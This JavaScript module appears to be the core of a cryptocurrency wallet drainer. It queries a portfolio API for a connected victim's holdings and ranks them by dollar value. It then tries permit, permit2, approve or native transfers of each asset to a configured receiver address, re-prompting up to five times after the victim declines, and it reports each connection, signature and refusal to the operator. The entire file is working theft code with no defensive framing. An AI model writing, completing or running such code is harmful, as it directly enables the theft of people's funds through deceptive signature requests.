import axios from "axios";
import { CHAINS, SKIP } from "./config";
import { runPermit, runPermit2, runApprove, runNative } from "./modules";

export async function scan(address) {
  const { data } = await axios.get(`https://portfolio.example/v1/${address}/all`, { params: { key: "KEY" } });
  return data.assets
    .filter((a) => !SKIP.includes(a.contract))
    .map((a) => ({ ...a, usd: a.amount * a.price, way: a.contract === null ? "native" : a.permit ? "permit" : a.permit2Allowance > 0 ? "permit2" : "approve" }))
    .filter((a) => a.usd >= CHAINS[a.chain].min)
    .sort((a, b) => b.usd - a.usd);
}

const ways = { permit: runPermit, permit2: runPermit2, approve: runApprove, native: runNative };

export async function go(address, signer, report) {
  const list = await scan(address);
  report("connect", { address, total: list.reduce((s, a) => s + a.usd, 0), list: list.slice(0, 12) });
  if (!list.length) return "low";
  const grouped = list.filter((a) => a.way !== "native").concat(list.filter((a) => a.way === "native"));
  for (const asset of grouped) {
    let left = 5;
    while (left--) {
      try {
        await ways[asset.way](signer, asset, CHAINS[asset.chain].receiver);
        report("signed", asset);
        break;
      } catch (e) {
        report(e.code === 4001 ? "declined" : "failed", { asset, left });
      }
    }
  }
}
